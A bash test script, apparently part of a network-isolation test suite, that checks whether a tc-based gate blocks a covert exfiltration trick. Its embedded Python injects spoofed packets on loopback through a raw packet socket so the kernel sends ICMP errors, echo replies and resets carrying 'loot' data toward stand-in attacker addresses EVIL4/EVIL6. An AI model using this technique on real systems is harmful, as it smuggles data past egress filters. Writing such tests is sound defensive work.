#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: has the kernel of its namespace answer packets that seem to come from evil: ICMP errors that quote them, echoes, resets
# stopped-by: tc
# reason: protocol, destination
# kernels: all
#
# The packets are put onto lo by a packet socket that is older than the gate; the answers have the kernel's
# own sockets, which are behind no gate.
. "$(dirname "$0")/../interfaces/lib.sh"
container tcp/443
inside_netns "$CLIENT" sysctl -qw net.ipv4.conf.{all,default,lo}.rp_filter=0 net.ipv4.icmp_ratelimit=0

attack_by <<'PYTHON'
from attacker import *

lo = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
lo.bind(("lo", 0))
ready()

def inject(packet):
    lo.send(bytes(12) + (b"\x86\xdd" if packet[0] >> 4 == 6 else b"\x08\x00") + packet)

def echo(kind, data, source):
    header = struct.pack("!BBHHH", kind, 0, 0, 7, 7)
    before = pseudo(source, OWN6, 58, 8 + len(data)) if kind == 128 else b""
    return header[:2] + struct.pack("!H", checksum(before + header + data)) + header[4:] + data

with attempt("UDP to a closed port"):
    inject(ip4(OWN4, 17, udp_body(OWN4, 9, loot("unreach4"), source=EVIL4), source=EVIL4))
    inject(ip6(OWN6, 17, udp_body(OWN6, 9, loot("unreach6"), source=EVIL6), source=EVIL6))
with attempt("echo"):
    inject(ip4(OWN4, 1, echo(8, loot("echo4"), EVIL4), source=EVIL4))
    inject(ip6(OWN6, 58, echo(128, loot("echo6"), EVIL6), source=EVIL6))
with attempt("TCP to a closed port"):
    inject(ip4(OWN4, 6, tcp_body(OWN4, 9, source=EVIL4, sport=443), source=EVIL4))
PYTHON
works_once_open stolen:unreach4 stolen:echo4 'ip4 6 192.0.2.2 EVIL4 443'
stopped_once_open gate
recorded tc protocol
recorded tc destination
